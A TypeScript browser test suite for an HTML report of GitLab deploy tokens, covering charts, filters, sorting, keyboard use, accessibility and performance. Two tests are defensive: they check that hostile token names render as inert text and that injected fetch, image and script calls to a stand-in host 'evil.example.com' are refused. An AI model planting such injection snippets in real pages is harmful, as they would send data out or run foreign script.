import { source as axe } from "axe-core";
import { expect } from "chai";
import { column, type OpenPage, Reader } from "./browser";
import { ATTACKS, EMPTY, HISTORY, HOSTILE, INCOMPLETE, largeReport, USUAL, WITHOUT_STATES } from "./reports";

describe("the page of a report, in a browser", function () {
	this.timeout(120_000);
	let reader: Reader;
	const opened: OpenPage[] = [];

	before(async () => {
		reader = await Reader.start();
	});
	after(() => reader?.close());

	async function open(...args: Parameters<Reader["open"]>) {
		const one = await reader.open(...args);
		opened.push(one);
		return one.page;
	}

	// Of every test, whatever it is about.
	afterEach(async () => {
		for (const { page, requested, complaints, url } of opened.splice(0)) {
			await page.context().close();
			expect(complaints).to.deep.equal([]);
			expect([...new Set(requested)]).to.deep.equal([url]);
		}
	});

	it("has tiles with counts, which show their tokens when clicked", async () => {
		const page = await open(USUAL);
		expect(await page.title()).to.equal("Deploy tokens of group grp");
		const tiles = await page.locator("#tiles .tile").allInnerTexts();
		expect(tiles.map((text) => text.split(/\n+/))).to.deep.equal([
			["Deploy tokens", "6", "4 active, 1 expired, 1 revoked"],
			["Managed", "33 %", "2 in a state, 4 in no state"],
			["Expire soon", "1", "active tokens, within 30 days"],
			["Never expire", "1", "active tokens"],
			[
				"Findings",
				String(USUAL.findings.filter(({ allowed }) => allowed === null).length),
				tiles[4]?.split(/\n+/)[2],
			],
			["Scanned", "3", "1 group, 2 projects"],
		]);
		await page.getByRole("button", { name: "Never expire" }).click();
		expect(await column(page, "Name")).to.deep.equal(["forever"]);
		expect(await page.evaluate("document.activeElement.id")).to.equal("tokens-title");
	});

	it("does not call a token unmanaged where no state was given", async () => {
		const page = await open(WITHOUT_STATES, { history: [] });
		expect(await page.locator("#tiles .tile").nth(1).innerText()).to.match(/^Managed\s+unknown\s/);
		expect(await column(page, "Managed by")).to.deep.equal(["unknown"]);
		expect(await page.locator("#expiries-legend").innerText()).to.equal("management unknown");
	});

	it("shows the active tokens by month of expiry in a chart, whose bars show their tokens when clicked", async () => {
		const page = await open(USUAL);
		const names = await page.locator("#expiries-bars button .hidden").allTextContents();
		expect(names).to.have.length(14);
		expect(names).to.include.members([
			"June 2030: 1 active token: 1 unmanaged",
			"July 2030: 1 active token: 1 rotated by its stack",
			"August 2030: 0 active tokens",
			"After May 2031: 1 active token: 1 unmanaged",
			"Never: 1 active token: 1 unmanaged",
		]);
		await page.getByRole("button", { name: "After May 2031" }).click();
		expect(await column(page, "Name")).to.deep.equal(["next-year"]);
		await page.getByRole("button", { name: "July 2030" }).click();
		expect(await column(page, "Name")).to.deep.equal(["rotated"]);
		expect(await page.getByRole("combobox", { name: "Expires" }).inputValue()).to.equal("month:2030-07");
	});

	it("shows the managed share of this scope over time", async () => {
		const page = await open(USUAL, { history: HISTORY });
		const chart = page.getByRole("img", { name: /^Managed share/ });
		expect(await chart.getAttribute("aria-label")).to.equal(
			"Managed share of the tokens: 17 % on 2030-04-02, 33 % on 2030-06-01",
		);
		expect(await chart.locator("circle.incomplete").count()).to.equal(1);
		await page.getByText("Figures").click();
		expect(await page.locator(".figures tbody tr").allInnerTexts()).to.deep.equal([
			"2030-06-01 12:00 UTC\t2\t4\t33 %",
			"2030-05-02 12:00 UTC\t3\t3\t50 %",
			"2030-04-02 12:00 UTC (incomplete)\t1\t5\t17 %",
		]);
	});

	it("explains what the chart of the managed share needs", async () => {
		expect(await (await open(USUAL)).locator("#history-chart").innerText()).to.contain("--history FILE");
		expect(await (await open(USUAL, { history: [] })).locator("#history-chart").innerText()).to.contain(
			"at least two reports",
		);
	});

	it("lists the findings by rule, most severe first, with severity and remedy, and accepted ones separately", async () => {
		const page = await open(USUAL, { permissions: ["clipboard-read", "clipboard-write"] });
		const groups = page.locator(".group");
		const severities = await groups.locator("summary .badge").allInnerTexts();
		expect([...new Set(severities)]).to.deep.equal(["high", "medium", "low", "info", "accepted"]);
		const group = groups.filter({ hasText: "expires-soon" });
		await group.locator("summary").click();
		const { message, remedy } = USUAL.findings.find(({ rule }) => rule === "expires-soon") ?? {};
		expect(await group.innerText())
			.to.contain('group grp 2 "Soon"')
			.and.contain(message)
			.and.contain(remedy);
		await group.getByRole("button", { name: /^Copy/ }).click();
		expect(await page.evaluate("navigator.clipboard.readText()")).to.equal(remedy);
		await group.getByRole("button", { name: "Show these tokens" }).click();
		expect(await column(page, "Name")).to.deep.equal(["Soon"]);
		await groups.last().locator("summary").click();
		expect(await groups.last().innerText()).to.contain("Accepted until 2031-01-01: A printer has it.");
	});

	it("sorts by each column, both ways, and shows that in its headers", async () => {
		const page = await open(USUAL);
		const sorted: Record<string, string[]> = {
			Name: ["forever", "next-year", "over", "revoked", "rotated", "Soon"],
			ID: ["1", "2", "4", "5", "6", "10"],
			Expires: ["over", "Soon", "rotated", "revoked", "next-year", "forever"],
		};
		for (const [title, expected] of Object.entries(sorted)) {
			const head = page.getByRole("columnheader", { name: title });
			const texts = () => column(page, title === "ID" ? "ID" : "Name");
			await head.getByRole("button").click();
			expect(await texts()).to.deep.equal(expected);
			expect(await head.getAttribute("aria-sort")).to.equal("ascending");
			await head.getByRole("button").click();
			expect(await texts()).to.deep.equal([...expected].reverse());
			expect(await head.getAttribute("aria-sort")).to.equal("descending");
			expect(await page.locator("[aria-sort]").count()).to.equal(1);
		}
	});

	it("filters by text and by lists, and clears the filters", async () => {
		const page = await open(USUAL);
		const search = page.getByRole("searchbox", { name: "Search" });
		const count = page.locator("#token-count");
		await page.getByRole("columnheader", { name: "ID" }).getByRole("button").click();
		await search.fill("GRP/PROJ re");
		expect(await column(page, "Name")).to.deep.equal(["rotated", "over", "revoked", "forever"]);
		await page.getByRole("combobox", { name: "Status" }).selectOption("active");
		expect(await column(page, "Name")).to.deep.equal(["rotated", "forever"]);
		await page.getByRole("combobox", { name: "Management" }).selectOption("unmanaged");
		expect(await count.innerText()).to.equal("1 to 1 of 1 token, 6 in total");
		await search.fill("nowhere");
		expect(await count.innerText()).to.equal("No token matches the filters.");
		await page.getByRole("button", { name: "Clear filters" }).click();
		expect(await count.innerText()).to.equal("1 to 6 of 6 tokens");
		await page.getByRole("combobox", { name: "Findings" }).selectOption("rule:write-scope");
		expect(await column(page, "Name")).to.deep.equal(["forever"]);
	});

	it("links to the owner's settings in GitLab", async () => {
		const page = await open(USUAL);
		const link = (name: RegExp) => page.getByRole("link", { name }).first().getAttribute("href");
		expect(await link(/^grp\/proj /)).to.equal(
			"https://gitlab.example.com/grp/proj/-/settings/repository#js-deploy-tokens",
		);
		expect(await link(/^grp /)).to.equal(
			"https://gitlab.example.com/groups/grp/-/settings/repository#js-deploy-tokens",
		);
	});

	it("reports at the top that a scan was incomplete, and what is missing", async () => {
		const page = await open(INCOMPLETE);
		expect(await page.title()).to.match(/^INCOMPLETE: /);
		expect(await page.locator("main > section").first().innerText())
			.to.match(/^Incomplete: 1 part /)
			.and.contain("group secret: GitLab responded with 403. Ask an Owner of the group.");
		expect(await page.locator("h1").innerText()).to.contain("Incomplete");
		expect(await (await open(USUAL)).locator("#gaps").isVisible()).to.equal(false);
	});

	it("shows an instance without a token", async () => {
		const page = await open(EMPTY);
		expect(await page.locator("#token-count").innerText()).to.equal("No deploy tokens.");
		expect(await page.locator("#findings-list").innerText()).to.equal("No findings.");
	});

	it("is light or dark as the system is, until the reader chooses", async () => {
		const page = await open(USUAL, { colorScheme: "dark" });
		const ground = () => page.evaluate("getComputedStyle(document.documentElement).backgroundColor");
		const dark = await ground();
		await page.emulateMedia({ colorScheme: "light" });
		const light = await ground();
		expect(dark).to.not.equal(light);
		await page.getByText("Dark", { exact: true }).click();
		expect(await ground()).to.equal(dark);
		await page.reload();
		expect(await ground()).to.equal(dark);
		await page.getByText("System", { exact: true }).click();
		expect(await ground()).to.equal(light);
	});

	it("can be used with the keyboard alone", async () => {
		const page = await open(USUAL);
		const press = (...keys: string[]) =>
			keys.reduce(async (before, key) => {
				await before;
				await page.keyboard.press(key);
			}, Promise.resolve());
		const focused = () => page.evaluate("document.activeElement.innerText || document.activeElement.id");
		await press("Tab");
		expect(await focused()).to.equal("Skip to the tokens");
		await press("Tab", "ArrowRight", "ArrowRight");
		expect(await page.evaluate("document.documentElement.dataset.theme")).to.equal("dark");
		await press("Shift+Tab", "Enter", "Tab");
		expect(await focused()).to.equal("filter-text");
		await page.keyboard.type("soon");
		expect(await column(page, "Name")).to.deep.equal(["Soon"]);
		await press("Tab", "Tab", "Tab", "Tab", "Tab");
		expect(await focused()).to.equal("Clear filters");
		await press("Enter");
		expect(await focused()).to.equal("filter-text");
		// Four lists, then the table, which scrolls with the arrows, then its first header.
		await press("Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Enter");
		expect(await focused()).to.match(/^Name/);
		expect((await column(page, "Name"))[0]).to.equal("forever");
		const outline = await page.evaluate("getComputedStyle(document.activeElement).outlineStyle");
		expect(outline).to.equal("solid");
		await press("Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Enter");
		expect(await focused()).to.equal("forever");
		expect(await page.locator("tr.details").innerText())
			.to.contain("gitlab+deploy-token-10")
			.and.match(/Created\s+unknown/);
		await press("Enter");
		expect(await page.locator("tr.details").count()).to.equal(0);
	});

	it("shows hostile names as text, and runs none of them", async () => {
		const page = await open(HOSTILE, { viewport: { width: 1000, height: 800 } });
		for (const summary of await page.locator(".group > summary").all()) await summary.click();
		for (const opener of await page.locator(".opener").all()) await opener.click();
		const text = await page.locator("body").innerText();
		expect(text).to.contain(ATTACKS.script).and.contain(ATTACKS.comment).and.contain("txt.\\u{202e}gpj.exe");
		expect(text).to.not.contain("\u202e");
		expect(await page.locator("img, a[href^=javascript]").count()).to.equal(0);
		expect(await page.title()).to.not.equal("owned");
		expect(await page.evaluate("document.documentElement.scrollWidth")).to.equal(1_000);
		for (const row of await page.locator("#token-rows > tr:not(.details)").all())
			expect((await row.boundingBox())?.height).to.be.lessThan(200);
	});

	it("refuses requests and scripts that are injected into it", async () => {
		const one = await reader.open(USUAL);
		const tries = {
			fetch: "fetch('https://evil.example.com').then(() => 'sent', () => 'refused')",
			image:
				"new Promise((done) => { const image = new Image(); image.onload = () => done('sent'); image.onerror = () => done('refused'); image.src = 'https://evil.example.com/'; })",
			script:
				"new Promise((done) => { const script = document.createElement('script'); script.textContent = 'globalThis.owned = true'; document.body.append(script); done(globalThis.owned ? 'sent' : 'refused'); })",
		};
		for (const [what, code] of Object.entries(tries))
			expect(await one.page.evaluate(code), what).to.equal("refused");
		expect(one.complaints.length).to.be.at.least(3);
		expect(one.requested).to.deep.equal([one.url]);
		await one.page.context().close();
	});

	it("shows 10,000 tokens page by page", async () => {
		const report = largeReport(10_000);
		const timings: string[] = [];
		const timed = async (what: string, act: () => Promise<unknown>) => {
			const startedMs = performance.now();
			await act();
			timings.push(`${what} ${Math.round(performance.now() - startedMs)} ms`);
		};
		let page!: OpenPage["page"];
		await timed("open", async () => {
			page = await open(report);
		});
		const count = page.locator("#token-count");
		expect(await count.innerText()).to.equal("1 to 50 of 10,000 tokens");
		expect(await page.locator("#token-rows tr").count()).to.equal(50);
		await timed("sort", () => page.getByRole("columnheader", { name: "Owner" }).getByRole("button").click());
		await timed("last page", () => page.getByRole("button", { name: "Last" }).click());
		expect(await count.innerText()).to.equal("9,951 to 10,000 of 10,000 tokens");
		await timed("search", () => page.getByRole("searchbox").fill("project-1999"));
		expect(await count.innerText()).to.equal("1 to 5 of 5 tokens, 10,000 in total");
		await timed("open 3,334 findings", () => page.locator("summary", { hasText: "never-expires" }).click());
		expect(await page.locator(".group[open] li").count()).to.equal(25);
		await page.getByRole("button", { name: /^Show 25 more/ }).click();
		expect(await page.locator(".group[open] li").count()).to.equal(50);
		console.log(`      ${timings.join(", ")}`);
	});

	for (const [what, report] of Object.entries({ usual: USUAL, incomplete: INCOMPLETE, hostile: HOSTILE }))
		it(`passes axe in the light and the dark theme: ${what}`, async () => {
			const page = await open(report, { history: HISTORY });
			for (const summary of await page.locator("summary").all()) await summary.click();
			await page.locator(".opener").first().click();
			expect(await violations(page, "{}"), "light").to.deep.equal([]);
			await page.emulateMedia({ colorScheme: "dark" });
			// Its rules about colours; nothing else differs.
			expect(
				await violations(page, "{ runOnly: ['color-contrast', 'link-in-text-block'] }"),
				"dark",
			).to.deep.equal([]);
		});
});

/** What axe finds, each with its first place. */
async function violations(page: OpenPage["page"], options: string): Promise<string[]> {
	await page.evaluate(axe);
	return await page.evaluate(
		`axe.run(${options}).then(({ violations }) => violations.map(({ id, nodes }) => id + ": " + nodes[0].html + " " + nodes[0].failureSummary))`,
	);
}
